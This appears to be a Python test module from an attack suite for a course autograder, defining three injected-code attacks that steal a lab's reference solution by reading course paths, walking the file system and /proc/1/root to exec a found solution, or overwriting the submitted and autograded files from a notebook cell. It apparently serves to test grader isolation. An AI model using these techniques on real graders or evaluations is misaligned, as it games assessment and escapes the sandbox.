"""Reading the reference solution by any route, at import (worker and kernel) and from a cell."""

from __future__ import annotations

from attackzoo import Attack, add_cell, hidden, prepend, steal


def _steal_at_import(folder, ctx):
    prepend(folder, steal(ctx))


def _walk_the_file_system(folder, ctx):
    prepend(
        folder,
        (
            "def _zoo_search():\n"
            "    import os, time\n"
            "    start = time.monotonic()\n"
            "    for top in ('/', '/proc/1/root'):\n"
            "        for dirpath, dirnames, filenames in os.walk(top):\n"
            "            dirnames[:] = [d for d in dirnames if d not in ('proc', 'sys', 'dev')]\n"
            "            if time.monotonic() - start > 3:\n"
            "                return None\n"
            "            if 'autoencoders.py' in filenames:\n"
            "                try:\n"
            "                    text = open(os.path.join(dirpath, 'autoencoders.py')).read()\n"
            "                except Exception:\n"
            "                    continue\n"
            "                if 'def tied_autoencoder' in text and 'NotImplementedError(\"Lab 5' not in text:\n"
            "                    return text\n"
            "    return None\n"
            "_zoo_text = _zoo_search()\n"
            "if _zoo_text:\n"
            "    exec(compile(_zoo_text, 'stolen', 'exec'), globals())\n"
        ),
    )


def _kernel_plants_reference(folder, ctx):
    """A cell copies the reference into its own submitted folder and its autograded copy:
    the next autograde (the other grading path) would grade that."""
    own = ctx.course / "submitted" / ctx.student / "lab5" / "mlplab" / "exercises" / "autoencoders.py"
    add_cell(
        folder,
        steal(ctx)
        + (
            "import os\n"
            f"for target in ({hidden(str(own))}, 'mlplab/exercises/autoencoders.py'):\n"
            "    try:\n"
            "        if _zoo_text:\n"
            "            open(target, 'w').write(_zoo_text)\n"
            "    except Exception as e:\n"
            "        print(type(e).__name__)\n"
        ),
    )


ATTACKS = [
    Attack(
        "read_reference_at_import",
        "exercise file execs the reference from solutions/, course source/, "
        "another student's submission, /proc/*/root, $MLPLAB_SOLUTIONS or "
        "mlplab.course.exercise_folder.solutions_root() at import",
        _steal_at_import,
    ),
    Attack(
        "read_reference_by_search",
        "exercise file walks / (and /proc/1/root) for a complete autoencoders.py and execs it",
        _walk_the_file_system,
    ),
    Attack(
        "kernel_plants_reference",
        "a notebook cell writes the reference into its own submitted folder and its autograded copy",
        _kernel_plants_reference,
    ),
]
